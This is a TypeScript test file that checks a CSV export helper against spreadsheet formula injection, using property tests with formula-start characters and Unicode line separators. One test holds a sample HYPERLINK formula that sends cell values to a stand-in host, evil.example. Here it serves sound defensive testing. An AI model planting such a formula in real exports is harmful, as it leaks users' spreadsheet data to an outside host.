/**
 * Every export goes through toCsv (a structural test below holds that), so one property covers
 * them all: no cell, header or value, reaches a spreadsheet starting like a formula, whatever the
 * platform calls its places (security review M2: a line or paragraph separator anywhere in the
 * value let papaparse's own escaping miss it).
 */
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '@/lib/csv';

const formulaStarts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const separators = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085'];

const hostileText = fc
  .tuple(
    fc.constantFrom(...formulaStarts),
    fc.string(),
    fc.constantFrom(...separators),
    fc.string(),
  )
  .map(([start, before, separator, after]) => `${start}${before}${separator}${after}`);

const parsedCells = (csv: string): string[] =>
  papa.parse<string[]>(csv, { skipEmptyLines: false }).data.flat();

describe('CSV exports', () => {
  it('never write a cell that starts like a formula, headers included', async () => {
    await fc.assert(
      fc.asyncProperty(
        hostileText,
        // Text only: numbers are written as numbers, which a spreadsheet never runs.
        fc.array(fc.oneof(hostileText, fc.string()), {
          minLength: 1,
          maxLength: 5,
        }),
        async (header, row) => {
          const cells = parsedCells(await toCsv([header, ...row.map(() => 'x')], [['a', ...row]]));
          for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/u);
        },
      ),
      { numRuns: 300 },
    );
  });

  it("keeps what it escapes readable: the value after a leading '", async () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A2&B2,"Open\u2028")';
    const [, cell] = parsedCells(await toCsv(['Name'], [[name]]));
    expect(cell).toBe(`'${name}`);
    // Numbers stay numbers (a spreadsheet reads -3.5 as a number, not a formula).
    const [, number] = parsedCells(await toCsv(['Area'], [[-3.5]]));
    expect(number).toBe('-3.5');
  });

  it('are all written by toCsv: no other module writes CSV', () => {
    const files = (directory: string): string[] =>
      readdirSync(directory, { withFileTypes: true }).flatMap((entry) =>
        entry.isDirectory()
          ? files(path.join(directory, entry.name))
          : [path.join(directory, entry.name)],
      );
    const writers = files(path.resolve(import.meta.dirname, '../../src')).filter(
      (file) =>
        !file.endsWith(path.join('lib', 'csv.ts')) &&
        /papaparse|text\/csv/.test(readFileSync(file, 'utf8')),
    );
    expect(writers).toEqual([]);
  });
});
